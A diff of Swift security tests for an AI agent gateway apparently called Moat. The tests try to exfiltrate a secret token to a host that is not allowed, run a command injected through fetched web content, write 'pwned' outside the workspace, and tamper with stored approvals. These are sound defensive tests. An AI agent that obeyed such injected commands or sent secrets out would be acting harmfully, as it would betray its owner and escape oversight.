@@ -48,14 +48,14 @@ import Testing
         setup.allowHosts = ["127.0.0.1:\(allowed.port)", "127.0.0.2:\(other.port)"]
         let serve = try await HostileServe(setup)
         let valueFile = try serve.area.write("canary.txt", canary)
-        let added = try serve.moat([
+        let added = try await serve.moat([
             "vault", "add", "CANARY_TOKEN", "--from-file", valueFile, "--allow-tool", "http_request",
             "--allow-host", "127.0.0.1",
         ])
         #expect(added.status == 0, "\(added.stderr)")
         unlink(valueFile)
-        try serve.trust("integrations", "full")
-        try serve.trust("web", "full")
+        try await serve.trust("integrations", "full")
+        try await serve.trust("web", "full")
         let secret = "{{secret:CANARY_TOKEN}}"
         let message = [
             Self.call(
@@ -71,7 +71,7 @@ import Testing
                 "http_request", ["method": "GET", "url": "\(allowed.origin)/redirect", "headers": ["X-Token": secret]]),
             Self.call("web_fetch", ["url": "\(other.origin)/?t=\(secret)"]),
         ].joined(separator: "\n")
-        let chat = try serve.moat(["chat", "--message", message])
+        let chat = try await serve.moat(["chat", "--message", message])
         #expect(chat.status == 0, "\(chat.stderr)")
 
         // The allowed host got the resolved value, in the header and the body; the other host nothing,
@@ -95,7 +95,7 @@ import Testing
         #expect(serve.model.requests.count == 2)
         #expect(!serve.model.everythingReceived.contains(canary))
         #expect(!chat.stdout.contains(canary) && !chat.stderr.contains(canary))
-        let log = serve.stop()
+        let log = await serve.stop()
         #expect(!log.contains(canary))
         #expect(log.contains("\"op\":\"chat\""))
         let stored = try serve.everythingStored()
@@ -124,9 +124,9 @@ import Testing
         var setup = HostileServe.Setup()
         setup.allowHosts = ["127.0.0.1:\(page.port)"]
         let serve = try await HostileServe(setup)
-        try serve.trust("web", "full")
-        try serve.trust("shell", "full")
-        let output = try serve.chat(Self.call("web_fetch", ["url": "\(page.origin)/news"]))
+        try await serve.trust("web", "full")
+        try await serve.trust("shell", "full")
+        let output = try await serve.chat(Self.call("web_fetch", ["url": "\(page.origin)/news"]))
         #expect(page.requests.count == 1)
         // The view the owner gets: the held call, the cap, and its cause.
         let id = try #require(HostileServe.pendingIDs(output).first, "\(output)")
@@ -137,25 +137,25 @@ import Testing
         #expect(!serve.workspaceHas("pwned.txt"), "the injected command ran without approval")
         #expect(serve.lastToolAnswers.last?.hasPrefix("Held for the owner's approval (\(id))") == true)
         #expect(try serve.column("SELECT limited_by FROM agent_tool_calls WHERE approval_id = ?", [id]) == ["taint"])
-        let shown = try serve.moat(["approvals", "show", id])
+        let shown = try await serve.moat(["approvals", "show", id])
         #expect(shown.stdout.contains("pending  shell  shell"), "\(shown.stdout)")
         #expect(
             shown.stdout.contains("held: level 2, set by the taint cap; tainted: read web content"), "\(shown.stdout)")
 
         // Approving runs exactly the held command once, in the real sandbox; a second approve is refused.
         try HostileServe.requireSandbox()
-        let approve = try serve.moat(["approvals", "approve", id])
+        let approve = try await serve.moat(["approvals", "approve", id])
         #expect(approve.status == 0, "\(approve.stderr)")
         #expect(approve.stdout.hasPrefix("approved \(id)\n"), "\(approve.stdout)")
         #expect(serve.read(serve.workspace + "/pwned.txt") == "hijacked\n")
         #expect(serve.lastToolAnswers.last?.hasPrefix("exit status 0") == true, "\(serve.lastToolAnswers)")
-        let replay = try serve.moat(["approvals", "approve", id])
+        let replay = try await serve.moat(["approvals", "approve", id])
         #expect(replay.status != 0)
         #expect(replay.stderr.contains("already"), "\(replay.stderr)")
         #expect(serve.read(serve.workspace + "/pwned.txt") == "hijacked\n")
         #expect(
             try serve.column("SELECT outcome FROM agent_tool_calls WHERE approval_id = ?", [id]) == ["success"])
-        let log = serve.stop()
+        let log = await serve.stop()
         #expect(log.contains("approval-pending"))
     }
 
@@ -164,8 +164,8 @@ import Testing
         var setup = HostileServe.Setup()
         setup.webhook = true
         let serve = try await HostileServe(setup)
-        try serve.trust("shell", "full")
-        try serve.addContact("+15551234567", ceilings: ["shell=4"])
+        try await serve.trust("shell", "full")
+        try await serve.addContact("+15551234567", ceilings: ["shell=4"])
         return serve
     }
 
@@ -178,7 +178,7 @@ import Testing
         let answer = try await serve.deliver(id: "m1", sender: "+15551234567", text: text)
         #expect(answer.status == 200, "\(answer.body)")
         #expect(!serve.workspaceHas("contact.txt"), "the contact's command ran without approval")
-        let pending = try serve.pendingApprovals()
+        let pending = try await serve.pendingApprovals()
         #expect(pending.count == 1)
         let approval = try #require(pending.first)
         #expect(approval["tool"] as? String == "shell")
@@ -194,7 +194,7 @@ import Testing
         let notice = try #require(
             log.split(separator: "\n").first { $0.contains("approval-pending") && $0.contains(id) }, "\(log)")
         #expect(notice.contains("not the owner"), "\(notice)")
-        _ = serve.stop()
+        _ = await serve.stop()
     }
 
     @Test(
@@ -214,22 +214,22 @@ import Testing
             try serve.column("SELECT arguments FROM agent_tool_calls WHERE approval_id = ?", [ids[0]]).first)
         let evil = #"{"command":"echo tampered >> /workspace/tampered.txt"}"#
         try serve.sql("UPDATE agent_tool_calls SET arguments = ? WHERE approval_id = ?", [evil, ids[0]])
-        let first = try serve.moat(["approvals", "approve", ids[0]])
+        let first = try await serve.moat(["approvals", "approve", ids[0]])
         #expect(first.status != 0, "a changed call was approved: \(first.stdout)")
         #expect(first.stderr.contains("integrity"), "\(first.stderr)")
         // …or the approval's own request.
         try serve.sql("UPDATE policy_approvals SET arguments = ? WHERE id = ?", [evil, ids[1]])
-        let second = try serve.moat(["approvals", "approve", ids[1]])
+        let second = try await serve.moat(["approvals", "approve", ids[1]])
         #expect(second.status != 0, "a changed approval was used: \(second.stdout)")
         for name in ["first", "second", "tampered"] { #expect(!serve.workspaceHas("\(name).txt")) }
         // Nothing was consumed by the refusals: the untouched row still runs once approved.
         try HostileServe.requireSandbox()
         try serve.sql("UPDATE agent_tool_calls SET arguments = ? WHERE approval_id = ?", [original, ids[0]])
-        let restored = try serve.moat(["approvals", "approve", ids[0]])
+        let restored = try await serve.moat(["approvals", "approve", ids[0]])
         #expect(restored.status == 0, "\(restored.stderr)")
         #expect(serve.read(serve.workspace + "/first.txt") == "first\n")
         #expect(!serve.workspaceHas("tampered.txt"))
-        _ = serve.stop()
+        _ = await serve.stop()
     }
 
     @Test("an approval past its lifetime (policy.approval_expiry_minutes) is refused and its call never runs")
@@ -237,19 +237,19 @@ import Testing
         var setup = HostileServe.Setup()
         setup.approvalExpiryMinutes = 1
         let serve = try await HostileServe(setup)
-        try serve.trust("shell", "suggest")
-        let output = try serve.chat(Self.call("shell", ["command": "echo late >> /workspace/late.txt"]))
+        try await serve.trust("shell", "suggest")
+        let output = try await serve.chat(Self.call("shell", ["command": "echo late >> /workspace/late.txt"]))
         let id = try #require(HostileServe.pendingIDs(output).first, "\(output)")
-        let expires = try #require(try serve.pendingApprovals().first?["expires_at"] as? String)
+        let expires = try await #require(try serve.pendingApprovals().first?["expires_at"] as? String)
         // Whole seconds are enough: the wait adds more than the milliseconds this drops.
         let deadline = try #require(ISO8601DateFormatter().date(from: String(expires.prefix(19)) + "Z"), "\(expires)")
         // The shortest lifetime the config accepts is a minute: wait it out (the other cases run meanwhile).
         try await Task.sleep(for: .seconds(max(0, deadline.timeIntervalSinceNow) + 2))
-        let approve = try serve.moat(["approvals", "approve", id])
+        let approve = try await serve.moat(["approvals", "approve", id])
         #expect(approve.status != 0, "\(approve.stdout)")
         #expect(approve.stderr.contains("expired"), "\(approve.stderr)")
         #expect(!serve.workspaceHas("late.txt"))
-        _ = serve.stop()
+        _ = await serve.stop()
     }
 
     // MARK: 3. The workspace
@@ -257,8 +257,8 @@ import Testing
     @Test("no write leaves the workspace: '..', an absolute path, a planted symlink or hard link, or the sandbox")
     func writesStayInTheWorkspace() async throws {
         let serve = try await HostileServe()
-        try serve.trust("files", "full")
-        try serve.trust("shell", "full")
+        try await serve.trust("files", "full")
+        try await serve.trust("shell", "full")
         let target = serve.outside + "/target.txt"
         try "original\n".write(toFile: target, atomically: false, encoding: .utf8)
         try FileManager.default.createSymbolicLink(
@@ -274,7 +274,7 @@ import Testing
         lines.append(
             Self.call(
                 "shell", ["command": "echo pwned > \(target); echo pwned > /workspace/link/target.txt; echo done"]))
-        let turn = try serve.chatTurn(lines.joined(separator: "\n"))
+        let turn = try await serve.chatTurn(lines.joined(separator: "\n"))
         let answers = serve.lastToolAnswers
         try #require(answers.count == writes.count + 1, "\(turn)")
         let refusals = [
@@ -292,7 +292,7 @@ import Testing
         if HostileServe.sandboxCheck.runs {
             #expect(answers.last?.contains("done") == true, "\(answers.last ?? "")")
         }
-        _ = serve.stop()
+        _ = await serve.stop()
     }
 
     // MARK: 4. Levels
@@ -305,22 +305,22 @@ import Testing
         setup.allowHosts = ["127.0.0.1:\(page.port)"]
         setup.webhook = true
         let serve = try await HostileServe(setup)
-        try serve.trust("files", "none")
-        let refused = try serve.chatTurn(Self.call("write_file", ["path": "zero.txt", "content": "x"]))
+        try await serve.trust("files", "none")
+        let refused = try await serve.chatTurn(Self.call("write_file", ["path": "zero.txt", "content": "x"]))
         #expect(Self.decisions(refused) == ["refused:0"], "\(refused)")
         #expect(serve.lastToolAnswers.first?.hasPrefix("Refused by the gateway") == true)
         #expect(!serve.workspaceHas("zero.txt"))
 
-        try serve.trust("files", "inform")
-        let output = try serve.chat(Self.call("write_file", ["path": "one.txt", "content": "x"]))
+        try await serve.trust("files", "inform")
+        let output = try await serve.chat(Self.call("write_file", ["path": "one.txt", "content": "x"]))
         #expect(output.contains("described, not run: write 1 bytes to the workspace file one.txt"), "\(output)")
         #expect(serve.lastToolAnswers.first?.hasPrefix("Not run:") == true)
         #expect(!serve.workspaceHas("one.txt"))
 
         // web is not capped by taint, so the contact's ceiling is what holds it below the owner's trust.
-        try serve.trust("web", "full")
-        try serve.addContact("+15550000001", ceilings: ["web=0"])
-        try serve.addContact("+15550000002", ceilings: ["web=1"])
+        try await serve.trust("web", "full")
+        try await serve.addContact("+15550000001", ceilings: ["web=0"])
+        try await serve.addContact("+15550000002", ceilings: ["web=1"])
         let fetch = Self.call("web_fetch", ["url": "\(page.origin)/"])
         for (index, sender) in ["+15550000001", "+15550000002"].enumerated() {
             let answer = try await serve.deliver(id: "w\(index)", sender: sender, text: fetch)
@@ -332,9 +332,9 @@ import Testing
                 + "ORDER BY created_at")
         #expect(rows == ["refused:0:principal", "described:1:principal"])
         // The owner, at trust 4, fetches it.
-        #expect(Self.decisions(try serve.chatTurn(fetch)) == ["ran:4"])
+        await #expect(Self.decisions(try serve.chatTurn(fetch)) == ["ran:4"])
         #expect(page.requests.count == 1)
-        _ = serve.stop()
+        _ = await serve.stop()
     }
 
     /// `decision:level` of each call of a `moat chat --json` turn.
@@ -352,7 +352,7 @@ import Testing
         let serve = try await HostileServe(setup)
         let list = Self.call("list_files", ["path": "."])
         // Five calls in one reply: the fifth is not run.
-        let many = try serve.chat(Array(repeating: list, count: 5).joined(separator: "\n"))
+        let many = try await serve.chat(Array(repeating: list, count: 5).joined(separator: "\n"))
         #expect(
             many.contains(
                 "stopped: Moat stopped this turn: it made 4 tool calls (agent.max_tool_calls_per_turn). Send another "
@@ -361,15 +361,15 @@ import Testing
         #expect(serve.lastToolAnswers.isEmpty)
         // One call a round, forever: the fourth round is not asked for.
         let before = serve.model.requests.count
-        let loop = try serve.chat(list)
+        let loop = try await serve.chat(list)
         #expect(
             loop.contains("stopped: Moat stopped this turn: it took 3 model rounds (agent.max_rounds_per_turn)"),
             "\(loop)")
         #expect(serve.model.requests.count == before + 3)
-        let audit = try serve.moat(["audit", "tail", "-n", "60"])
+        let audit = try await serve.moat(["audit", "tail", "-n", "60"])
         #expect(audit.stdout.components(separatedBy: "agent.budget").count - 1 == 2, "\(audit.stdout)")
         // The owner is told through the server's log as well.
-        let notices = serve.stop().split(separator: "\n").filter { $0.contains("budget-reached") }
+        let notices = await serve.stop().split(separator: "\n").filter { $0.contains("budget-reached") }
         #expect(notices.count == 2)
         #expect(notices.first?.contains("agent.max_tool_calls_per_turn") == true)
     }
